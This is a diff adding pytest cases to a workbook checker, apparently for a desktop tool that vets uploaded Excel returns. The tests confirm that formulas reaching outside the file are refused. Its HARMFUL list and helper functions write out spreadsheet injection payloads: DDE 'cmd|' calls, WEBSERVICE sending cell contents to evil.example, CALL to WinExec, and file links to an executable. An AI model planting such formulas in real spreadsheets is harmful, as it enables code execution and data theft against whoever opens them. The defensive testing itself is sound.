@@ -11,7 +11,10 @@ from datetime import UTC, datetime
 import openpyxl
 import pypdf
 import pytest
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from jfs_desktop.documents.template_fields import kinds
 from jfs_desktop.documents.template_findings import Examination, Severity
@@ -137,6 +140,66 @@ def test_what_can_do_harm_or_is_no_workbook_is_refused_in_one_sentence(content: 
     assert said in refused.value.text and refused.value.remedy
     seen = checked(content)
     assert not seen.taken and not seen.sample
+
+
+HARMFUL = [
+    "=cmd|'/c calc'!A1", "=MSEXCEL|'\\..\\cmd.exe'!A1", '=WEBSERVICE("http://evil.example/"&A1)',
+    "=_xlfn.WEBSERVICE(A1)",
+    '=RTD("prog",,"x")', '=CALL("kernel32","WinExec","JCJ","calc",0)', '=REGISTER.ID("a","b")', "=EXEC(1)",
+    '=HYPERLINK("file:///c:/x.exe","Here")', '=HYPERLINK("http"&"://evil.example","a")', "=HYPERLINK(A1)",
+    '=HYPERLINK("https://www.gov.uk",HYPERLINK(B1))', "=[1]Sheet!A1", "='C:\\x\\[y.xlsx]S'!A1",
+    "='[y.xlsx]S'!A1", '=CUBEVALUE("a")',
+    '=SUM(1,FILTERXML(A1,"//a"))', '=IMAGE("http://evil.example/x.png")', '=INDIRECT("a")', "=Unknown(1)",
+]  # fmt: skip
+HARMLESS = [
+    "=SUM(B2:B9)", '=IF(CSS!B2>0,"a|b","[x]!")', "=_xlfn.IFS(A1=1,2)", "='Clerical MI return'!A1", "=A1*2",
+    '=HYPERLINK("https://www.gov.uk/","DWP")', '=HYPERLINK("#CSS!A1","CSS")', "=COUNTIFS(A:A,1,B:B,2)",
+    "=VLOOKUP(A1,CSS!A:B,2,FALSE)",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", HARMFUL)
+def test_mi2_a_formula_that_reaches_outside_is_refused_with_its_tab_and_cell(formula: str) -> None:
+    opened = book()
+    opened["Staffing"]["C700"] = formula
+    (only,) = checked(saved(opened)).findings
+    assert (only.key, only.severity) == ("file", Severity.REFUSED)
+    assert "tab ‘Staffing’, cell C700" in only.text and only.text.count(". ") == 0 and only.remedy
+
+
+@pytest.mark.parametrize("formula", HARMLESS)
+def test_mi2_a_formula_that_reckons_passes(formula: str) -> None:
+    opened = book()
+    opened["Staffing"]["C7"] = formula
+    assert checked(saved(opened)).sound
+
+
+def named(opened: Workbook) -> None:
+    opened.defined_names["Total"] = DefinedName("Total", attr_text="cmd|'/c calc'!A1")
+
+
+def validated(opened: Workbook) -> None:
+    rule = DataValidation(type="custom", formula1='WEBSERVICE("http://evil.example")')
+    rule.add("D4")
+    opened["Staffing"].add_data_validation(rule)
+
+
+def coloured(opened: Workbook) -> None:
+    opened["Staffing"].conditional_formatting.add("E5", FormulaRule(["RTD(1)"]))
+
+
+def linked(opened: Workbook) -> None:
+    opened["Staffing"]["F6"].hyperlink = "file:///c:/x.exe"
+
+
+@pytest.mark.parametrize(
+    ("change", "where"), [(named, "‘Total’"), (validated, "D4"), (coloured, "E5"), (linked, "cell F6")]
+)
+def test_mi2_nor_does_anything_reach_outside_that_stands_in_no_cell(change: Change, where: str) -> None:
+    opened = book()
+    change(opened)
+    (only,) = checked(saved(opened)).findings
+    assert only.key == "file" and where in only.text
 
 
 def test_every_tab_can_be_looked_at_on_pages() -> None:
